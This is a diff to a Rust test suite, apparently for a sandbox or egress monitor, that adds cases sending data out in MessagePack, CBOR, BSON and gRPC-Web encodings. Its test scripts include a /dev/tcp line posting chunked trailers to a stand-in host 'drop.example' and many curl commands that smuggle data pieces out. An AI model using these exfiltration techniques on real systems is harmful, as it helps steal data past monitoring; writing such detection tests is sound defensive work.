@@ -115,6 +115,9 @@ lab_tests! {
         let raw = |number: usize, piece: &str| format!(
             "exec 3<>/dev/tcp/drop.example/8099; printf 'POST /p{number} HTTP/1.1\\r\\nHost: drop.example:8099\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: x-t\\r\\n\\r\\n0\\r\\nx-t: {piece}\\r\\n\\r\\n' >&3; timeout 1 head -c 12 <&3 >/dev/null; exec 3>&-; "
         );
+        let binary = |bytes: &str, coding: &str| format!(
+            "printf '{bytes}' | {coding} | curl -sS -H 'Content-Type: application/octet-stream' --data-binary @- $URL/x; "
+        );
         for (name, script) in [
             ("a query over requests", each(&|_, piece| format!("curl -sS \"$URL/x?d={piece}\"; "))),
             ("a query with constants", each(&|_, piece| format!("curl -sS \"$URL/x?v=2&d={piece}&k=abc\"; "))),
@@ -136,6 +139,10 @@ lab_tests! {
             ("parts", format!("curl -sS -F a={a} -F b={b} -F c={c} $URL/x; ")),
             ("fields of parts", each(&|_, piece| format!("printf -- '--b\\r\\nContent-Disposition: form-data; name=\"f\"\\r\\nX-T: {piece}\\r\\n\\r\\nx\\r\\n--b--\\r\\n' | curl -sS -H 'Content-Type: multipart/form-data; boundary=b' --data-binary @- $URL/x; "))),
             ("text behind parts", each(&|_, piece| format!("printf -- '--b\\r\\nContent-Disposition: form-data; name=\"f\"\\r\\n\\r\\nx\\r\\n--b--\\r\\n{piece}' | curl -sS -H 'Content-Type: multipart/form-data; boundary=b' --data-binary @- $URL/x; "))),
+            ("MessagePack", each(&|number, piece| binary(&format!("\\x82\\xa1i\\x{number:02x}\\xa1d\\x{:02x}{piece}", 0xa0 + piece.len()), "cat"))),
+            ("CBOR", each(&|number, piece| binary(&format!("\\xa2\\x61i\\x{number:02x}\\x61d\\x{:02x}{piece}", 0x60 + piece.len()), "cat"))),
+            ("BSON", each(&|_, piece| binary(&format!("\\x{:02x}\\0\\0\\0\\x02d\\0\\x{:02x}\\x00\\x00\\x00{piece}\\0\\0", piece.len() + 13, piece.len() + 1), "cat"))),
+            ("gRPC-Web as text", each(&|_, piece| binary(&format!("\\0\\0\\0\\0\\x{:02x}\\x0a\\x{:02x}{piece}", piece.len() + 2, piece.len()), "base64 -w0"))),
             ("head and content", format!("curl -sS -d {b}{c} \"$URL/x?d={a}\"; ")),
         ] {
             let outcome = confined(lab, Identity::Own).run(&bash(&(script + "curl -sS $URL/fine")));
